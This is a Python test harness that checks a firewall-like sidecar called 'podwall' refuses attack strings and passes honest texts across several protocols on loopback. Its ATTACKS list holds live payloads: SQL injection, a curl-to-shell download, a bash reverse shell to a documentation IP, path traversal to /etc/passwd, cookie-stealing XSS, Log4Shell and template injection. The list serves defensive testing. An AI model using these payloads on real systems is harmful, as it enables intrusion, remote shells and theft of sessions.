"""The verdict on a text does not depend on what carries it: ten attacks and ten honest texts over HTTP/1.1, HTTP/2, gRPC,
gRPC-Web and WebSockets, as they are, behind filler that ends just below and above each window, compressed, cut into pieces, in
every kind of body, and under types that say something else.

    tests/.venv/bin/python tests/frontdoor.py target/release/podwall [--missed]

Prints its figures; exit code 1 when less than 99 % of the attacks in all their forms are caught, or one honest text is not
let through. In documents (files, lines of a long text, bytes) an attack need not be one, but what it is must not depend on the
form either: those are held against what most forms of the same text get. Loopback only.
"""

import argparse
import contextlib
import json
import sys
import tempfile
import threading
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from clients_kit import chunked
from clients_kit.programs import Podwall, certificates, free_port
from frontdoor_kit.carriers import CARRIERS
from frontdoor_kit.shapes import HELD, variants
from websockets.exceptions import ConnectionClosed
from websockets.sync.server import serve

ATTACKS = [
    "x' UNION SELECT card, cvv FROM payments --",
    "7 OR 1=1; DROP TABLE orders; --",
    "1' AND SLEEP(5) AND 'a'='a",
    "tea; curl http://198.51.100.7/x.sh | sh",
    "$(bash -i >& /dev/tcp/198.51.100.7/4444 0>&1)",
    "../../../../../../etc/passwd",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "${jndi:ldap://198.51.100.7:1389/a}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
]
# These are attacks only where a value begins: a number goes on as an expression, a path as another.
FIRST = {"7 OR 1=1; DROP TABLE orders; --", "../../../../../../etc/passwd"}
HONEST = [
    "Conan O'Brien & Sons",
    "please select the best tea from the table by the window",
    "5 < 7 holds; it's all the same to me",
    "Order #17 -- union of both lists, group by date",
    "C:\\Users\\kim\\notes.txt, see page 4/5",
    "the price is $12.50 (or 1 for $11), isn't it?",
    "SELECT is a word that I like; so is WHERE",
    "Kaffee für Jürgen, 2 × à la carte, 50 %",
    "https://shop.example/orders/17?sort=asc&page=2",
    "def total(items): return sum(item.price for item in items)",
]
REFUSED = {"403", "7", "1008"}
PASSED = {"200", "101"}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("podwall", type=Path)
    parser.add_argument("--missed", action="store_true", help="print every variant with another verdict than the text's own")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="podwall-frontdoor-") as folder, contextlib.ExitStack() as programs:
        doors = start(options.podwall.resolve(), Path(folder), programs)
        caught = play(doors, ATTACKS, REFUSED)
        passed = play(doors, HONEST, PASSED)
    values, documents = ([one for one in caught if bool(one[0].document) == kind] for kind in (False, True))
    share = tell("attacks caught", values, options.missed)
    honest = tell("honest texts let through", passed, True)
    alike = tell("attacks in documents, alike in every form", as_most(documents), True)
    sys.exit(0 if share >= 0.99 and honest == 1 and alike >= 0.99 and len(values) + len(passed) >= 2000 else 1)


def as_most(outcomes):
    """Held against what most forms of the same text get in documents of the same kind."""
    refused = Counter((text, variant.document) for variant, text, _, as_wanted in outcomes if as_wanted)
    every = Counter((text, variant.document) for variant, text, *_ in outcomes)
    mostly = {key: 2 * refused[key] > every[key] for key in every}
    for kind in sorted({kind for _, kind in every}):
        print(f"  caught in documents, {kind}: {sum(mostly[key] for key in mostly if key[1] == kind)} of 10 attacks")
    return [(variant, text, said, as_wanted == mostly[text, variant.document])
            for variant, text, said, as_wanted in outcomes]


def start(binary, folder, programs):
    certs = certificates(binary, folder / "pki")
    backend = chunked.Server()
    echo = serve(back, "127.0.0.1", 0, max_size=None, compression=None)
    threading.Thread(target=echo.serve_forever, daemon=True).start()
    web, live = free_port(), free_port()
    listeners = [
        {"listen": f"127.0.0.1:{web}", "tls": "off", "upstream": f"127.0.0.1:{backend.port}"},
        {"listen": f"127.0.0.1:{live}", "tls": "off", "upstream": f"127.0.0.1:{echo.socket.getsockname()[1]}"},
    ]
    rules = [
        {"from": "any", "methods": "POST", "path": "/stream", "stream": True},
        {"from": "any", "methods": "POST", "path": "/held"},
        {"from": "any", "methods": "GET", "path": "/live", "upgrade": ["websocket"]},
    ]
    head = {"apiVersion": "podwall.dev/v1", "kind": "Allowlist", "metadata": {"name": "door"}, "owner": "team-tests"}
    limits = f"limits: {{inspect_bytes: {HELD >> 10}KiB}}\n"
    podwall = Podwall(binary, folder / "sidecar", listeners, json.dumps({**head, "inbound": rules}), certs, more=limits)
    programs.callback(podwall.end)
    podwall.wait_ready()
    return {"websocket": live, **dict.fromkeys(["http1", "http2", "grpc", "grpc-web"], web)}


def back(connection):
    with contextlib.suppress(ConnectionClosed):
        for message in connection:
            connection.send(message)


def play(doors, texts, wanted):
    """Sends every text in every form. Gives for each variant its name, its text, what was said, whether that is as wanted."""
    with ThreadPoolExecutor(4) as pool:
        told = pool.map(lambda text: [*each(doors, text, wanted)], texts)
        return [one for some in told for one in some]


def each(doors, text, wanted):
    connections = {}
    for variant in variants(text, text not in FIRST):
        # Only what is compressed must be held whole; everything else must do on a route that streams, too.
        path = "/held" if "gzip" in variant.name and variant.carrier.startswith("http") else "/stream"
        key = (variant.carrier, path)
        if key not in connections:
            connections[key] = CARRIERS[variant.carrier](doors[variant.carrier], path)
        try:
            said, _ = connections[key].send(variant)
        except OSError as error:
            said = type(error).__name__
            del connections[key]
        yield variant, text, said, said in wanted


def tell(what, outcomes, every):
    right = sum(as_wanted for *_, as_wanted in outcomes)
    share = right / len(outcomes)
    print(f"{what}: {right} of {len(outcomes)} variants of {len({text for _, text, *_ in outcomes})} texts, {share:.2%}")
    totals = Counter(variant.carrier for variant, *_ in outcomes)
    wrong = Counter(variant.carrier for variant, _, _, as_wanted in outcomes if not as_wanted)
    print("  " + ", ".join(f"{carrier}: {total - wrong[carrier]} of {total}" for carrier, total in totals.items()))
    for variant, text, said, as_wanted in outcomes:
        if not as_wanted and every:
            print(f"  {said}: {variant.name}: {text}")
    return share


if __name__ == "__main__":
    main()
